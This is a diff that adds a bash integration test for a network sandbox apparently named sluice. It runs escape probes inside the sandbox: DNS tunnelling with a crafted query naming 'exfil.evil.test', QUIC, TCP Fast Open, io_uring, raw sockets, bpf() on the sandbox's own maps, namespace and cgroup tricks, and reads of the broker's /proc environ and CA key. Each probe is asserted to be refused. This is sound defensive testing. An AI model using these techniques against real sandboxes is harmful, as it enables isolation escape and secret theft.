@@ -1,0 +1,244 @@
+#!/bin/bash
+# SPDX-License-Identifier: MIT
+# Escape attempts below HTTP, each inside `sluice run` with the real sluiced,
+# once as the default user (nobody) and once as uid 0 without capabilities:
+# QUIC (UDP 443, v4/v6/mapped), non-DNS data and a DNS-tunnel name to a
+# foreign resolver's port 53, TCP Fast Open (MSG_FASTOPEN and
+# TCP_FASTOPEN_CONNECT), io_uring (socket+connect+send without the syscalls),
+# raw/packet/ping variants not in test_kernel_enforce, the x32 syscall ABI,
+# TLS and plain HTTP to a raw IP, `unshare -n` / a user+net namespace, a user+
+# cgroup namespace with a private cgroup2 mount and a child cgroup, bpf()
+# against sluice's own objects, and AF_UNIX. For each: the expected refusal,
+# and nothing reached the fake internet (connection, datagram and request
+# counters unchanged).
+#
+# AF_UNIX is not mediated by sluice (no IP leaves through it; cgroup socket
+# hooks see only AF_INET/AF_INET6): a host daemon listening on a path the
+# sandbox can open is reachable, and what it does for the sandbox is its own
+# business - do not expose such daemons (docker.sock...) to a sandbox. What
+# this test holds sluice to: sluice itself listens on no unix socket, and the
+# sandbox cannot read the broker's CA key, its /proc environ (where secret
+# values live) or its open files.
+. "$(dirname "$0")/../lib.sh"
+sl_begin escape_kernel
+sl_need_bins "$SLUICE" "$SLUICED"
+fi_up
+
+cc -O1 -Wall -Wextra -Werror -o "$T/escape_probe" "$SL_ROOT/tests/escape/escape_probe.c" 2>"$T/cc.log" ||
+	sl_fail "escape_probe did not compile: $(cat "$T/cc.log")"
+mkdir -p "$T/mnt" && chmod 777 "$T/mnt"
+
+export SL_ESC_TOKEN=esc-secret-$$-$RANDOM
+cat >"$T/policy.yaml" <<EOF
+rules:
+  - {action: allow, host: "api.test"}
+secrets:
+  TOK: {env: SL_ESC_TOKEN, hosts: [api.test]}
+EOF
+# The broker through a wrapper that records its PID (for the /proc probes).
+cat >"$T/broker.sh" <<EOF
+#!/bin/sh
+echo \$\$ >"$T/broker.pid"
+exec "$SLUICED" "\$@"
+EOF
+chmod 755 "$T/broker.sh"
+
+# A host daemon on a unix socket path, outside the sandbox.
+sl_bg hostunix "$PY" -c '
+import os, socket, sys
+p = sys.argv[1]
+s = socket.socket(socket.AF_UNIX); s.bind(p); os.chmod(p, 0o777); s.listen(8)
+while True:
+    c, _ = s.accept(); open(sys.argv[2], "a").write("x\n"); c.sendall(b"HOSTUNIX\n"); c.close()
+' "$T/host.sock" "$T/hostunix.log"
+sl_wait_for test -S "$T/host.sock" || sl_fail "host unix daemon did not start"
+
+# sluice's own objects, to aim bpf() at.
+MAPID=$(bpftool -j map show pinned /sys/fs/bpf/sluice/sluice_sandboxes 2>/dev/null | "$PY" -c 'import json,sys; print(json.load(sys.stdin)["id"])' 2>/dev/null)
+
+cat >"$T/probe.py" <<EOF
+import errno, os, socket, struct, sys
+FI4, FI6 = "$FI_IP4", "$FI_IP6"
+def out(*a): print(*a, flush=True)
+def en(e): return errno.errorcode.get(e.errno, str(e.errno))
+def udp(name, fam, addr, data, wait=1.5):
+    s = socket.socket(fam, socket.SOCK_DGRAM); s.settimeout(wait)
+    try:
+        s.sendto(data, addr)
+    except OSError as e:
+        return out(name, "error", en(e))
+    try:
+        d, src = s.recvfrom(2048); out(name, "reply", d.hex())
+    except socket.timeout:
+        out(name, "sent-noreply")
+    except OSError as e:
+        out(name, "recv-error", en(e))
+def mksock(name, fam, typ, proto):
+    try:
+        socket.socket(fam, typ, proto).close(); out(name, "CREATED")
+    except OSError as e:
+        out(name, "error", en(e))
+def tcp(name, fam, addr):
+    s = socket.socket(fam); s.settimeout(3)
+    try:
+        s.connect(addr); s.sendall(b"PROBE\n"); d = s.recv(64)
+        out(name, "connected data=[%s]" % d.decode("latin-1").split("\r\n")[0].strip())
+    except OSError as e:
+        out(name, "error", en(e))
+mode = sys.argv[1]
+if mode == "main":
+    quic = bytes([0xc3, 0, 0, 0, 1]) + os.urandom(1195)   # a QUIC long-header Initial's size
+    udp("quic4", socket.AF_INET, (FI4, 443), quic)
+    udp("quic6", socket.AF_INET6, (FI6, 443), quic)
+    udp("quicmapped", socket.AF_INET6, ("::ffff:" + FI4, 443), quic)
+    udp("dnsdata", socket.AF_INET, (FI4, 53), b"SECRET-PAYLOAD-NOT-DNS" * 10)
+    udp("dnsdata6", socket.AF_INET6, (FI6, 53), b"SECRET-PAYLOAD-NOT-DNS" * 10)
+    # A well-formed query whose name carries data (DNS tunnelling) under a name no rule allows.
+    q = struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
+    for lab in ("c2VjcmV0LWRhdGE", "exfil", "evil", "test"):
+        q += bytes([len(lab)]) + lab.encode()
+    q += b"\0" + struct.pack("!HH", 1, 1)
+    udp("dnstunnel", socket.AF_INET, (FI4, 53), q)
+    mksock("raw4tcp", socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
+    mksock("raw4udp", socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
+    mksock("raw6", socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
+    mksock("ping6", socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6)
+    mksock("packetdgram", socket.AF_PACKET, socket.SOCK_DGRAM, 0x0300)
+    try:
+        socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).close(); out("netlinkroute opened")
+    except OSError as e:
+        out("netlinkroute error", en(e))
+    u = socket.socket(socket.AF_UNIX); u.settimeout(3)
+    try:
+        u.connect("$T/host.sock"); out("unix connected", u.recv(64).decode().strip())
+    except OSError as e:
+        out("unix error", en(e))
+    bp = open("$T/broker.pid").read().strip()
+    for what in ("environ", "mem", "fd"):
+        p = "/proc/%s/%s" % (bp, what)
+        try:
+            if what == "fd":
+                out("proc-" + what, "READ", len(os.listdir(p)))
+            else:
+                open(p, "rb").read(64); out("proc-" + what, "READ")
+        except OSError as e:
+            out("proc-" + what, "error", en(e))
+    try:
+        open("$T/ca/ca.key", "rb").read(); out("cakey READ")
+    except OSError as e:
+        out("cakey error", en(e))
+    # Any unix socket the broker holds would show in /proc/net/unix with its inode in its fds.
+    try:
+        inodes = set(os.readlink("/proc/%s/fd/%s" % (bp, f)) for f in os.listdir("/proc/%s/fd" % bp))
+        out("brokerunix", "visible", len([i for i in inodes if i.startswith("socket:")]))
+    except OSError as e:
+        out("brokerunix", "error", en(e))
+elif mode == "tcp":
+    tcp(sys.argv[2], socket.AF_INET, (FI4, 9000))
+    tcp(sys.argv[2] + "6", socket.AF_INET6, (FI6, 9000))
+EOF
+
+cat >"$T/inner.sh" <<EOF
+P=/usr/bin/python3; E="$T/escape_probe"
+\$P "$T/probe.py" main
+\$E tfo $FI_IP4 9000; \$E tfo $FI_IP6 9000; \$E tfo ::ffff:$FI_IP4 9000
+\$E tfo-connect $FI_IP4 9000
+\$E tfo $FI_IP4 443
+\$E iouring $FI_IP4 9000; \$E iouring $FI_IP6 9000
+\$E x32
+\$E bpf ${MAPID:-1} 1 1
+# TLS to a raw IP (no SNI) and plain HTTP to a raw IP naming a denied host.
+curl -sk --max-time 5 -o /dev/null -w 'rawtls4 code=%{http_code}\n' https://$FI_IP4/hello; echo "rawtls4 rc=\$?"
+curl -sk --max-time 5 -o /dev/null -w 'rawtls6 code=%{http_code}\n' "https://[$FI_IP6]/hello"; echo "rawtls6 rc=\$?"
+curl -s --max-time 5 -o /dev/null -w 'rawhttp code=%{http_code}\n' -H 'Host: evil.test' http://$FI_IP4/hello; echo "rawhttp rc=\$?"
+unshare -n true 2>/dev/null && echo "unshare-n OK" || echo "unshare-n refused"
+unshare -Urn \$P "$T/probe.py" tcp usernet 2>&1 | sed 's/^/userns /'
+# A user+mount+cgroup namespace, a private cgroup2 mount, a child cgroup, then connect.
+unshare -Urm -C sh -c '
+	mount -t cgroup2 none "$T/mnt" 2>/dev/null && echo "cgmount OK" || echo "cgmount refused"
+	if mkdir "$T/mnt/esc\$\$" 2>/dev/null && echo \$\$ >"$T/mnt/esc\$\$/cgroup.procs" 2>/dev/null; then
+		echo "cgchild moved \$(cat /proc/self/cgroup)"
+	else
+		echo "cgchild refused"
+	fi
+	/usr/bin/python3 "$T/probe.py" tcp cgns
+' 2>&1
+EOF
+
+run_probes() { # label [--user root]
+	local label=$1; shift
+	local c9000 c443 c80 u443 u53 req
+	c9000=$(fi_conns 9000); c443=$(fi_conns 443); c80=$(fi_conns 80)
+	u443=$(fi_udp_count 443); u53=$(fi_udp_count 53); req=$(fi_requests 443 | wc -l)
+	rm -f "$T/broker.pid"
+	out=$(sluice_run --policy "$T/policy.yaml" --run-dir "$T/run" --ca-dir "$T/ca" --audit "$T/audit.log" \
+		--broker "$T/broker.sh" "$@" -- bash "$T/inner.sh" 2>"$T/run-$label.err")
+	echo "$out" >"$T/out-$label.txt"
+	sl_log "[$label] probe output:"; echo "$out" | sed 's/^/    /' >&2
+	L="[$label]"
+	for n in quic4 quic6 quicmapped; do
+		sl_assert_contains "$out" "$n error EPERM" "$L $n: UDP 443 refused in the kernel"
+	done
+	for n in dnsdata dnsdata6; do
+		sl_assert_not_contains "$out" "$n error" "$L $n: the datagram went somewhere (the broker's resolver)"
+		sl_assert_contains "$out" "$n sent-noreply" "$L $n: non-DNS data to port 53 gets no answer"
+	done
+	# REFUSED (rcode 5) for a name no rule could allow; the id 0x1234 echoed.
+	sl_assert_contains "$out" "dnstunnel reply 1234" "$L DNS-tunnel query answered by the broker"
+	echo "$out" | grep -q '^dnstunnel reply 1234...5' || sl_fail "$L DNS-tunnel name not REFUSED: $(echo "$out" | grep dnstunnel)"
+	sl_ok "$L DNS-tunnel name REFUSED"
+	for n in raw4tcp raw4udp raw6 ping6 packetdgram; do
+		sl_assert_contains "$out" "$n error" "$L $n socket refused"
+	done
+	sl_assert_not_contains "$out" "CREATED" "$L no raw/packet/ping socket created"
+	sl_assert_contains "$out" "netlinkroute" "$L netlink probe ran (allowed: it carries no traffic out)"
+	sl_assert_eq 4 "$(echo "$out" | grep -c '^tfo connected data=\[HTTP/1.1 400 Bad Request\]')" "$L TCP Fast Open (v4, v6, mapped, 443) went to the broker, which refused the data"
+	sl_assert_contains "$out" "tfo-connect connected data=[HTTP/1.1 400 Bad Request]" "$L TCP_FASTOPEN_CONNECT went to the broker"
+	sl_assert_not_contains "$out" "data=[hello]" "$L no probe (TFO, io_uring, namespaces) got the fake internet's greeting"
+	sl_assert_contains "$out" "iouring setup-error ENOSYS" "$L io_uring_setup refused by sluice's seccomp filter"
+	sl_assert_contains "$out" "x32 ENOSYS" "$L x32 syscall ABI unavailable (kernel built without it)"
+	for n in map-by-id prog-by-id link-by-id prog-load-cgroup map-create; do
+		sl_assert_contains "$out" "bpf $n EPERM" "$L bpf(): $n refused"
+	done
+	sl_assert_contains "$out" "bpf obj-get ENOENT" "$L bpf(): sluice's pinned maps are not reachable (bpffs hidden)"
+	sl_assert_contains "$out" "rawtls4 code=000" "$L TLS to a raw IPv4 (no SNI) refused"
+	sl_assert_contains "$out" "rawtls6 code=000" "$L TLS to a raw IPv6 (no SNI) refused"
+	sl_assert_contains "$out" "rawhttp code=403" "$L plain HTTP to a raw IP naming a denied host: 403"
+	sl_assert_contains "$out" "unshare-n refused" "$L unshare -n refused (no CAP_SYS_ADMIN)"
+	sl_assert_not_contains "$out" "userns usernet connected" "$L a user+net namespace has no way out"
+	if echo "$out" | grep -q '^cgmount'; then
+		sl_assert_contains "$out" "cgns connected data=[HTTP/1.1 400 Bad Request]" "$L in a new cgroup namespace (own cgroup2 mount) the connect still goes to the broker (which refuses non-HTTP)"
+		sl_assert_contains "$out" "cgns6 connected data=[HTTP/1.1 400 Bad Request]" "$L ... and over IPv6"
+	else
+		sl_assert_contains "$out" "uid_map" "$L unshare -U refused (uid_map), so no new cgroup namespace"
+	fi
+	sl_assert_contains "$out" "unix connected HOSTUNIX" "$L AF_UNIX to a host daemon by path: reachable (not mediated, documented)"
+	for n in environ mem; do
+		sl_assert_contains "$out" "proc-$n error" "$L the broker's /proc/PID/$n is not readable"
+	done
+	# Checked last (after the traffic counters) so one hole does not hide the others.
+	case "$out" in *"cakey error"*) sl_ok "$L the CA key (--ca-dir) is not readable" ;;
+	*) HOLES+=("$L the sandbox can read the broker's CA private key $T/ca/ca.key") ;; esac
+	sl_assert_contains "$out" "brokerunix error" "$L the broker's open files and sockets cannot be resolved (readlink /proc/PID/fd/N)"
+	sl_assert_eq "$c9000" "$(fi_conns 9000)" "$L nothing reached the fake internet's TCP 9000"
+	sl_assert_eq "$c443" "$(fi_conns 443)" "$L nothing reached the fake internet's 443"
+	sl_assert_eq "$c80" "$(fi_conns 80)" "$L nothing reached the fake internet's 80"
+	sl_assert_eq "$u443" "$(fi_udp_count 443)" "$L no datagram reached UDP 443"
+	sl_assert_eq "$u53" "$(fi_udp_count 53)" "$L no datagram reached the foreign resolver"
+	sl_assert_eq "$req" "$(fi_requests 443 | wc -l)" "$L no HTTPS request reached the fake internet"
+	sl_assert_not_contains "$out" "$SL_ESC_TOKEN" "$L the secret value never appeared in the sandbox"
+}
+
+# Outside the sandbox the same helpers work (so a refusal inside is sluice's doing).
+c0=$(fi_conns 9000)
+o=$("$T/escape_probe" iouring "$FI_IP4" 9000; "$T/escape_probe" tfo "$FI_IP4" 9000)
+sl_assert_contains "$o" "iouring connected data=[hello]" "outside: io_uring connect works on this kernel"
+sl_assert_contains "$o" "tfo connected data=[hello]" "outside: TCP Fast Open connect works"
+sl_assert_eq $((c0 + 2)) "$(fi_conns 9000)" "outside: both reached the fake internet"
+
+HOLES=()
+run_probes nobody
+run_probes root --user root
+sl_assert_eq "" "$(find "$T/run" "$T/ca" -type s)" "sluice made no unix socket in its run or CA dirs"
+[ ${#HOLES[@]} = 0 ] || sl_fail "$(printf '%s; ' "${HOLES[@]}")"
+sl_pass
